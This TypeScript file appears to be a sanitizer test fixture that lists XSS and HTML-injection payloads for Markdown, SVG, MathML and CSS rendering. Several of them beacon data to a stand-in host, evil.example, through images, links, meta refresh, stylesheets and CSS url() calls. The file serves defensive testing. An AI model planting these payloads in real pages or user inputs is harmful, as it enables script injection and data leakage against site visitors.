import { at, type AttackClass } from '../attack.ts';

const blocks = [
  '<img src=https://evil.example/§>',
  '<a href=https://evil.example/§ onclick=alert(§)>x</a>',
  '<form action=https://evil.example/§><button autofocus>send</button></form>',
  '<input onfocus=alert(§) autofocus>',
  '<base href=https://evil.example/§/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/§">',
  '<link rel=stylesheet href=https://evil.example/§>',
  '<link rel=prefetch href=https://evil.example/§>',
  '<iframe src=https://evil.example/§></iframe>',
  '<video src=https://evil.example/§ autoplay onerror=alert(§)></video>',
  '<audio src=x onerror=alert(§)>',
  '<p ONCLICK=alert(§) onmouseenter=alert(§)>x',
  '<div\nonpointerover\n=\nalert(§)>x</div>',
  '<script/x>alert(§)</script/x>',
  '<scr<script>ipt>alert(§)</scr</script>ipt>',
  '<img src=`x`onerror=alert(§)>',
  '<dialog open onclose=alert(§)><form method=dialog><button autofocus>x</button></form></dialog>',
  '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(§)>',
  '<p id=location><form name=cookie><img name=currentScript>',
  '![x](https://evil.example/§)',
  '![x][p]\n\n[p]: https://evil.example/§',
  '<!--><script>alert(§)</script>-->',
  '<?xml version="1.0"?><script>alert(§)</script>',
  '<![CDATA[<script>alert(§)</script>]]>',
  '```html\n</code></pre><script>alert(§)</script>\n```',
  '`</code><img src=x onerror=alert(§)>`',
  '| </td><script>alert(§)</script> |\n| - |\n| x |',
  'x[^1]\n\n[^1]: </li></ol><script>alert(§)</script>',
  'x[^"onclick=alert(§)]\n\n[^"onclick=alert(§)]: y',
  '- [x] <img src=x onerror=alert(§)>',
];

const drawings = [
  '<svg><script>alert(§)</script></svg>',
  '<svg/onload=alert(§)>',
  '<svg><a xlink:href=javascript:alert(§)><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(§) attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to=javascript:alert(§)></svg>',
  '<svg><use href=data:image/svg+xml,<svg/onload=alert(§)>#x></svg>',
  '<svg><image href=https://evil.example/§></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(§)</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import "https://evil.example/§";</style></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(§)</script>]]></svg>',
  '<math href=javascript:alert(§)>x</math>',
  '<math><annotation-xml encoding=text/html><script>alert(§)</script></annotation-xml></math>',
  '<style>body{background:url(https://evil.example/§)}</style>',
  '<p style="background:url(https://evil.example/§)">x',
  '<p style="position:fixed;inset:0;z-index:9">covers all</p>',
  '<style>@import url(https://evil.example/§);*{display:none}</style>',
  '</style><style>*{background:url(https://evil.example/§)}</style>',
  '<div style="width:expression(alert(§));-moz-binding:url(https://evil.example/§)">x</div>',
];

/** HTML in Markdown, around statements and in them. */
export const markupAttacks: AttackClass = {
  name: 'HTML in Markdown',
  kind: 'content',
  attacks: blocks.flatMap((text, index) => at(index % 3 === 2 ? 'words' : 'prose', text)),
};

/** Drawings, formulas and styles, which have ways of their own to run and to load. */
export const drawingAttacks: AttackClass = {
  name: 'SVG, MathML and CSS',
  kind: 'content',
  attacks: [
    ...drawings.flatMap((text, index) => at(index % 2 === 0 ? 'prose' : 'title', text)),
    ...drawings.slice(0, 6).flatMap((text) => at('note on a speaker', text)),
    ...at('note on a topic', ...drawings.slice(12, 15)),
    ...at('note on a theme', ...drawings.slice(15)),
  ],
};
